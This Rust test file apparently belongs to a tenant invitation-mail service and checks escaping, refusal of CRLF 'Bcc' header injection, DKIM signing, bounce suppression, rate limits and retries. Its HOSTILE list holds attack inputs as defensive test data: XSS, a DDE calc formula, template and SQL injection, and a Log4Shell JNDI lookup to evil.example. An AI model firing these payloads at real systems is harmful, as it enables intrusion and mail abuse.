//! Mail: in whose name, to whom not, by which relay, signed.

use std::process::Stdio;

use serde_json::json;
use tests::{Invitation, Mail, SmtpServer, Suppression, TestApp, eventually};
use tokio::io::AsyncWriteExt as _;

const LIST: &str = "/api/v1/tenants/acme/invitations";

/// Strings that somebody may write anywhere (OWASP, the Big List of Naughty Strings): markup, headers, directions, formulas, templates, NUL-like.
const HOSTILE: [&str; 9] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "Ann\u{202e}gpj.exe",
    "=cmd|'/c calc'!A1",
    "{{ 7*7 }}{% raw %}",
    "{ $code } -term",
    "\u{1f468}\u{200d}\u{1f469}\u{1f4a9} 𝕳𝖊𝖑𝖑𝖔",
    "${jndi:ldap://evil.example/a}",
    "a' OR '1'='1",
];

/// Somebody of the tenant who is called so, in an organization of their own: SCIM keeps it.
async fn person(app: &TestApp, slug: &str, name: &str) -> String {
    let organizations = format!("/api/v1/tenants/{slug}/organizations");
    app.operator.post(&organizations, json!({"slug": "people", "name": "People"})).await.expect(201);
    let tokens = format!("{organizations}/people/scim-tokens");
    let made = app.operator.post(&tokens, json!({"name": "idp"})).await.created_token();
    let scim = app.operator.with(made);
    scim.post("/scim/v2/Users", json!({"userName": "p", "displayName": name})).await.created_id()
}

#[actix_web::test]
async fn hostile_text_reaches_a_mail_as_text_and_no_header() {
    let mut smtp = SmtpServer::start().await;
    let url = smtp.url();
    let app = TestApp::with(|config| config.section_mut::<mail::Settings>().url = url.into()).await;
    for (number, hostile) in HOSTILE.iter().enumerate() {
        let slug = format!("t{number}");
        app.tenant_with(json!({"slug": slug, "name": hostile, "plan": "pro"})).await;
        let branding = format!("/api/v1/tenants/{slug}/branding");
        let brand = json!({"footer": format!("{hostile}\nBcc: evil@example.com"), "color": "#ffd400"});
        app.operator.put(&branding, brand).await.expect(200);
        let inviter = person(&app, &slug, &format!("{hostile}\r\nBcc: evil@example.com")).await;
        let body = json!({
            "email": format!("z{number}@example.com"), "role": "viewer", "inviter": inviter,
            "message": format!("{hostile}\r\n\r\n.\r\nBcc: evil@example.com"),
        });
        app.operator.post(&format!("/api/v1/tenants/{slug}/invitations"), body).await.expect(201);
        let mail = smtp.0.next().await;
        assert_eq!(mail["to"], json!([format!("z{number}@example.com")]), "to nobody else");
        let raw = mail["raw"].as_str().unwrap();
        let (head, body) = raw.split_once("\r\n\r\n").unwrap();
        assert!(!head.to_lowercase().contains("\r\nbcc:"), "{head}");
        assert_eq!(
            head.matches("\r\nSubject:").count() + usize::from(head.starts_with("Subject:")),
            1,
            "{head}"
        );
        // In text it is what was written; in HTML it is text too.
        let (_, html) = body.split_once("text/html").unwrap();
        assert!(!html.contains("<script>") && !html.contains("<img src=3Dx"), "{html}");
        assert!(!raw.contains('\u{202e}') && !raw.contains("=E2=80=AE"), "directions stay as they are");
        assert!(!raw.contains("49{%") && !raw.contains("Bcc: evil@example.com\r\nTo"));
    }
    // What can't be text at all is refused with its place.
    for (body, pointer) in [
        (json!({"email": "a@example.com\r\nBcc: evil@example.com", "role": "viewer"}), "/email"),
        (json!({"email": "a@example.com", "role": "viewer", "inviter": "Ann\r\nBcc: x"}), "/inviter"),
        // Who invites is somebody of the tenant, whose name we know, and not what the caller writes.
        (json!({"email": "a@example.com", "role": "viewer", "inviter": "The CEO of your bank"}), "/inviter"),
    ] {
        let refused = app.operator.post("/api/v1/tenants/t0/invitations", body).await;
        assert_eq!(refused.refused(400, "validation.failed").pointer(), pointer);
    }
    for (body, pointer) in [
        (json!({"senderName": "Ann <ceo@bank.example>"}), "/senderName"),
        (json!({"logoUrl": "javascript:alert(1)"}), "/logoUrl"),
        (json!({"color": "red;background:url(//evil)"}), "/color"),
        (json!({"supportUrl": "http://x.example"}), "/supportUrl"),
        (json!({"locale": "tlh"}), "/locale"),
    ] {
        let refused = app.operator.put("/api/v1/tenants/t0/branding", body).await;
        assert_eq!(refused.refused(400, "validation.failed").pointer(), pointer);
    }
    app.stop().await;
}

async fn verify_dkim(raw: &str, record: &str) {
    let fixtures = concat!(env!("CARGO_MANIFEST_DIR"), "/fixtures");
    let mut child = tokio::process::Command::new(format!("{fixtures}/.venv/bin/python"))
        .args(["dkim_check.py", record])
        .current_dir(fixtures)
        .stdin(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("tests/run installs Python's packages");
    child.stdin.take().unwrap().write_all(raw.as_bytes()).await.unwrap();
    let output = child.wait_with_output().await.unwrap();
    assert!(output.status.success(), "{}\n{raw}", String::from_utf8_lossy(&output.stderr));
}

fn openssl(arguments: &[&str]) -> Vec<u8> {
    let output = std::process::Command::new("openssl").args(arguments).output().expect("openssl");
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    output.stdout
}

#[actix_web::test]
async fn the_domain_signs_and_the_second_relay_takes_what_the_first_cannot() {
    use base64::Engine as _;
    let folder = tempfile::tempdir().unwrap();
    for algorithm in ["rsa", "ed25519"] {
        let key = folder.path().join(algorithm).display().to_string();
        match algorithm {
            "rsa" => {
                openssl(&["genpkey", "-algorithm", "RSA", "-pkeyopt", "rsa_keygen_bits:2048", "-out", &key])
            }
            _ => openssl(&["genpkey", "-algorithm", "ED25519", "-out", &key]),
        };
        let public = openssl(&["pkey", "-in", &key, "-pubout", "-outform", "DER"]);
        // Of an Ed25519 key DNS has the bare 32 bytes (RFC 8463).
        let public = if algorithm == "rsa" { &public[..] } else { &public[public.len() - 32..] };
        let public = base64::engine::general_purpose::STANDARD.encode(public);
        let pem = std::fs::read_to_string(&key).unwrap();
        let mut smtp = SmtpServer::start().await;
        let (dead, alive) = (format!("smtp://127.0.0.1:{}", tests::free_port()), smtp.url());
        let app = TestApp::with(|config| {
            let settings = config.section_mut::<mail::Settings>();
            settings.url = dead.into();
            settings.fallback_urls = vec![alive.into()];
            settings.from = "Identity <no-reply@mail.example>".to_owned();
            settings.dkim_domain = "mail.example".to_owned();
            settings.dkim_selector = "sel".to_owned();
            settings.dkim_key = pem.into();
        })
        .await;
        app.tenant("acme").await;
        let brand = json!({"senderName": "Acme Büro", "replyTo": "it@acme.example", "locale": "de", "supportUrl": "https://acme.example/hilfe"});
        app.operator.put("/api/v1/tenants/acme/branding", brand).await.expect(200);
        let joerg = person(&app, "acme", "Jörg").await;
        app.operator
            .post(LIST, json!({"email": "zoe@example.com", "role": "admin", "inviter": joerg}))
            .await
            .expect(201);
        let mail = smtp.0.next().await;
        let raw = mail["raw"].as_str().unwrap();
        assert!(
            raw.contains("<no-reply@mail.example>") && raw.contains("Reply-To: it@acme.example"),
            "{raw}"
        );
        verify_dkim(raw, &format!("v=DKIM1; k={algorithm}; p={public}")).await;
        app.stop().await;
    }
}

#[actix_web::test]
async fn who_bounced_or_complained_gets_no_mail_until_somebody_lifts_it() {
    let mut smtp = SmtpServer::start().await;
    let url = smtp.url();
    let app = TestApp::with(|config| {
        let settings = config.section_mut::<mail::Settings>();
        settings.url = url.into();
        settings.per_domain_per_minute = 0;
    })
    .await;
    let acme = app.tenant("acme").await;
    let invite = async |email: &str| {
        app.operator.post(LIST, json!({"email": email, "role": "viewer"})).await.expect(201);
    };
    let ended = async |email: &str, status: &str| {
        eventually(&format!("{email} to be {status}"), async || {
            let mails: Vec<Mail> = acme.admin.get("/api/v1/tenants/acme/mails?limit=200").await.items();
            mails.into_iter().find(|mail| mail.recipient == email && mail.status == status)
        })
        .await
    };
    invite("zoe@example.com").await;
    let raw = smtp.0.next().await["raw"].as_str().unwrap().to_owned();
    ended("zoe@example.com", "sent").await;
    let id = raw.lines().find_map(|line| line.strip_prefix("Message-ID: ")).unwrap().trim().to_owned();
    let bounces = "/api/v1/mail/bounces";
    let soft = app
        .operator
        .post(bounces, json!({"messageId": id, "kind": "soft", "detail": "4.2.2 mailbox full"}))
        .await;
    assert_eq!(soft.expect(200)["suppressed"], false);
    let hard =
        app.operator.post(bounces, json!({"messageId": id, "kind": "hard", "detail": "5.1.1 unknown"})).await;
    assert_eq!(hard.expect(200)["suppressed"], true);
    let bounced = ended("zoe@example.com", "bounced").await;
    assert_eq!(bounced.reason.as_deref(), Some("5.1.1 unknown"));
    app.operator.post("/api/v1/mail/suppressions", json!({"address": "Kim@Example.com"})).await.expect(201);
    let list: Vec<Suppression> = app.operator.get("/api/v1/mail/suppressions").await.items();
    let reasons: Vec<&str> = list.iter().map(|one| one.reason.as_str()).collect();
    assert_eq!(reasons, ["manual", "hard_bounce"]);
    invite("kim@example.com").await;
    assert_eq!(ended("kim@example.com", "suppressed").await.reason.as_deref(), Some("manual"));
    assert_eq!(app.operator.delete("/api/v1/mail/suppressions/kim@example.com").await.status, 204);
    assert_eq!(app.operator.delete("/api/v1/mail/suppressions/kim@example.com").await.status, 404);
    let sent: Invitation = acme.admin.get(&format!("{LIST}?email=kim")).await.first();
    let path = format!("{LIST}/{}/resend", sent.id);
    app.operator.post(&path, json!({})).await.expect(200);
    assert_eq!(smtp.0.next().await["to"], json!(["kim@example.com"]));
    invite("never@example.com").await;
    assert!(ended("never@example.com", "failed").await.reason.unwrap().contains("550"));
    // Nothing but the platform says who gets no mail.
    assert_eq!(acme.admin.get("/api/v1/mail/suppressions").await.status, 403);
    for wrong in [
        json!({"kind": "hard"}),
        json!({"kind": "odd", "recipient": "a@example.com"}),
        json!({"kind": "hard", "messageId": "<x@y>"}),
    ] {
        app.operator.post(bounces, wrong).await.refused(400, "validation.failed");
    }
    app.stop_with_dead_letters(&["mail.send"]).await;
}

#[actix_web::test]
async fn a_domain_gets_so_many_mails_a_minute_and_the_rest_waits() {
    let mut smtp = SmtpServer::start().await;
    let url = smtp.url();
    let app = TestApp::with(|config| {
        let settings = config.section_mut::<mail::Settings>();
        settings.url = url.into();
        settings.per_domain_per_minute = 2;
    })
    .await;
    app.tenant("acme").await;
    for number in 0..4 {
        let body = json!({"email": format!("z{number}@slow.example"), "role": "viewer"});
        app.operator.post(LIST, body).await.expect(201);
    }
    app.operator.post(LIST, json!({"email": "z@fast.example", "role": "viewer"})).await.expect(201);
    let mut to = Vec::new();
    for _ in 0..3 {
        to.push(smtp.0.next().await["to"][0].as_str().unwrap().to_owned());
    }
    assert_eq!(to.iter().filter(|to| to.ends_with("@slow.example")).count(), 2, "{to:?}");
    let waiting = eventually("two to wait", async || {
        let waiting = app.operator.jobs("kind=mail.send&status=pending").await;
        (waiting.len() == 2).then_some(waiting)
    })
    .await;
    assert_eq!(waiting[0].attempts, 0, "to wait is no attempt");
    app.stop().await;
}

#[actix_web::test]
async fn an_hour_without_smtp_loses_no_mail_and_sends_none_twice() {
    let port = tests::free_port();
    let app = TestApp::with(|config| {
        config.section_mut::<mail::Settings>().url = format!("smtp://127.0.0.1:{port}").into()
    })
    .await;
    app.tenant("acme").await;
    for number in 0..5 {
        let body = json!({"email": format!("z{number}@example.com"), "role": "viewer"});
        app.operator.post(LIST, body).await.expect(201);
    }
    // An hour of attempts, at the clock's pace.
    for _ in 0..60 {
        app.clock.advance(chrono::TimeDelta::minutes(1));
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    let dead = app.operator.jobs("kind=mail.send&status=dead").await;
    assert!(dead.is_empty(), "{dead:?}");
    let mut smtp = SmtpServer::at(port).await;
    // Those that began before it was there have failed, and their next attempts are due by the clock as it is now.
    eventually("no attempt to be under way", async || {
        app.operator.jobs("kind=mail.send&status=running").await.is_empty().then_some(())
    })
    .await;
    app.clock.advance(chrono::TimeDelta::minutes(16));
    let mut came = Vec::new();
    for _ in 0..5 {
        came.push(smtp.0.next().await["to"][0].as_str().unwrap().to_owned());
    }
    came.sort();
    assert_eq!(came, (0..5).map(|number| format!("z{number}@example.com")).collect::<Vec<_>>());
    eventually("all to be noted as sent", async || {
        let mails: Vec<Mail> = app.operator.get("/api/v1/tenants/acme/mails").await.items();
        mails.iter().all(|mail| mail.status == "sent").then_some(())
    })
    .await;
    app.stop().await;
}

#[actix_web::test]
async fn hostile_text_reaches_a_page_as_text() {
    let app = TestApp::start().await;
    for (number, hostile) in HOSTILE.iter().enumerate() {
        let slug = format!("t{number}");
        app.tenant_with(json!({"slug": slug, "name": hostile, "plan": "pro"})).await;
        let email = format!("z{number}@example.com");
        let inviter = person(&app, &slug, hostile).await;
        let body = json!({"email": email, "role": "viewer", "inviter": inviter, "message": hostile});
        app.operator.post(&format!("/api/v1/tenants/{slug}/invitations"), body).await.expect(201);
        let token = app.invitation_token(&email).await;
        let page = app.anyone().get(&format!("/invitations/accept?token={token}")).await;
        let form = [("token", token.as_str()), ("displayName", hostile)];
        let accepted = app.anyone().form("/invitations/accept", &form).await;
        let list = app.anyone().get("/dev/mail").await;
        let mails = app.anyone().mails().await;
        let one = app.anyone().get(&format!("/dev/mail/{}", mails[0].id)).await;
        for shown in [page, accepted, list, one] {
            assert!(shown.status == 200, "{}", shown.text);
            let markup = shown.text.split("<body").nth(1).unwrap();
            assert!(!markup.contains("<script") && !markup.contains("<img"), "{markup}");
            assert!(!shown.header("content-security-policy").contains("script-src"));
        }
    }
    app.stop().await;
}
